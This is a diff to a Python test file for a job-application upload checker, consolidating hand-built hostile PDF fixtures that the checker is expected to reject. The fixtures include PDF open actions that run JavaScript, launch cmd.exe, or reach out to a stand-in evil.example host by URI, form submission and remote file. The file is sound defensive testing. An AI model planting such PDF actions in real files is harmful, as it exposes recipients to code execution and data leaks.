@@ -24,6 +24,7 @@ from pypdf import PdfReader, PdfWriter
 from pypdf.actions import JavaScript
 
 from applications.intake.uploads import MAX_IMAGE_PIXELS, MAX_NAME_BYTES, MAX_UPLOAD_BYTES, check_upload, common, pdf
+from tests.applications.raw_pdfs import CATALOG, PAGE, PAGES, raw_pdf, stream
 
 JAPANESE = re.compile(r"[\u3000-\u303f\u3040-\u30ff\u4e00-\u9fff\uff00-\uffef]")
 
@@ -60,28 +61,9 @@ def pdf_writer() -> PdfWriter:
     return writer
 
 
-CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
-PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
-PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"
-
-
-def raw_pdf(*objects: bytes) -> bytes:
-    """A PDF written by hand: objects 1, 2, 3... with a correct cross-reference table.
-
-    Object 1 is the catalog. This lets a test write exactly the bytes an
-    attacker would, which pypdf's writer would not produce.
-    """
-    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
-    offsets = []
-    for number, body in enumerate(objects, start=1):
-        offsets.append(len(out))
-        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
-    xref = len(out)
-    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
-    for offset in offsets:
-        out += b"%010d 00000 n \n" % offset
-    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
-    return bytes(out)
+def pdf_opening(action: bytes, *more: bytes) -> bytes:
+    """A PDF whose catalog names ``action`` as its /OpenAction; ``more`` are objects 4, 5... it may refer to."""
+    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s >>" % action, PAGES, PAGE, *more)
 
 
 def pdf_with_script_in_object_stream() -> bytes:
@@ -209,15 +191,14 @@ def test_pdf_opening_at_a_page_is_accepted():
 
 def test_pdf_opening_with_a_goto_action_is_accepted():
     """An /OpenAction that only goes to a page of the document itself runs nothing."""
-    content = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit] >> >>", PAGES, PAGE)
+    content = pdf_opening(b"<< /S /GoTo /D [3 0 R /Fit] >>")
     assert check_upload(upload("cv.pdf", content)).kind == "pdf"
 
 
 def test_dangerous_names_inside_stream_data_are_not_mistaken_for_actions():
     """Compressed streams are random bytes; `/JS` may turn up by chance and must not refuse a scan."""
     data = b"\x93\x01/JS /JavaScript /Launch\x88\x00 stream\n\xfe"
-    stream = b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)
-    content = raw_pdf(CATALOG, PAGES, PAGE, stream)
+    content = raw_pdf(CATALOG, PAGES, PAGE, stream(data))
     assert check_upload(upload("scan.pdf", content)).kind == "pdf"
 
 
@@ -370,6 +351,26 @@ def one_bit_png(size: int) -> bytes:
     return make_image("PNG", size=(size, size), mode="1")
 
 
+#: Open actions a PDF may run when it is opened: (id, the action or a reference to it, the objects it refers to).
+#: Issue 11, item 10: also those that reach out (a web address, a form sent, another file).
+OPEN_ACTIONS = [
+    ("pdf-openaction-javascript-raw", b"4 0 R", b"<< /S /JavaScript /JS (app.alert(1)) >>"),
+    ("pdf-openaction-hex-escaped-names", b"<< /S /Java#53cript /J#53 (app.alert(1)) >>"),
+    ("pdf-launch-action", b"<< /S /Launch /F (cmd.exe) >>"),
+    ("pdf-openaction-uri", b"<< /S /URI /URI (https://evil.example/t) >>"),
+    (
+        "pdf-openaction-submitform-indirect",
+        b"4 0 R",
+        b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
+    ),
+    (
+        "pdf-openaction-goto-then-uri",
+        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example/) >> >>",
+    ),
+    ("pdf-openaction-remote-goto", b"<< /S /GoToR /F (\\\\evil.example\\share\\x.pdf) /D [0 /Fit] >>"),
+]
+
+
 HOSTILE: list = [
     # Executables and scripts under a document name.
     pytest.param("cv.pdf", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 1024, "unsupported_type", id="elf-named-cv.pdf"),
@@ -398,75 +399,12 @@ HOSTILE: list = [
     # PDFs that run code, carry files or hide another format.
     pytest.param("cv.pdf", pdf_with_javascript, "pdf_active_content", id="pdf-javascript-name-tree"),
     pytest.param(
-        "cv.pdf",
-        lambda: raw_pdf(
-            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
-            PAGES,
-            PAGE,
-            b"<< /S /JavaScript /JS (app.alert(1)) >>",
-        ),
-        "pdf_active_content",
-        id="pdf-openaction-javascript-raw",
-    ),
-    pytest.param(
-        "cv.pdf",
-        lambda: raw_pdf(
-            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Java#53cript /J#53 (app.alert(1)) >> >>", PAGES, PAGE
-        ),
-        "pdf_active_content",
-        id="pdf-openaction-hex-escaped-names",
-    ),
-    pytest.param(
         "cv.pdf", pdf_with_script_in_object_stream, "pdf_active_content", id="pdf-javascript-in-object-stream"
     ),
-    pytest.param(
-        "cv.pdf",
-        lambda: raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>", PAGES, PAGE),
-        "pdf_active_content",
-        id="pdf-launch-action",
-    ),
-    # Issue 11, item 10: an open action that reaches out when the file is opened.
-    pytest.param(
-        "cv.pdf",
-        lambda: raw_pdf(
-            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /URI /URI (https://evil.example/t) >> >>", PAGES, PAGE
-        ),
-        "pdf_active_content",
-        id="pdf-openaction-uri",
-    ),
-    pytest.param(
-        "cv.pdf",
-        lambda: raw_pdf(
-            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
-            PAGES,
-            PAGE,
-            b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> >>",
-        ),
-        "pdf_active_content",
-        id="pdf-openaction-submitform-indirect",
-    ),
-    pytest.param(
-        "cv.pdf",
-        lambda: raw_pdf(
-            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoTo /D [3 0 R /Fit]"
-            b" /Next << /S /URI /URI (https://evil.example/) >> >> >>",
-            PAGES,
-            PAGE,
-        ),
-        "pdf_active_content",
-        id="pdf-openaction-goto-then-uri",
-    ),
-    pytest.param(
-        "cv.pdf",
-        lambda: raw_pdf(
-            b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /GoToR /F (\\\\evil.example\\share\\x.pdf)"
-            b" /D [0 /Fit] >> >>",
-            PAGES,
-            PAGE,
-        ),
-        "pdf_active_content",
-        id="pdf-openaction-remote-goto",
-    ),
+    *[
+        pytest.param("cv.pdf", lambda objects=objects: pdf_opening(*objects), "pdf_active_content", id=name)
+        for name, *objects in OPEN_ACTIONS
+    ],
     pytest.param(
         "cv.pdf",
         lambda: raw_pdf(
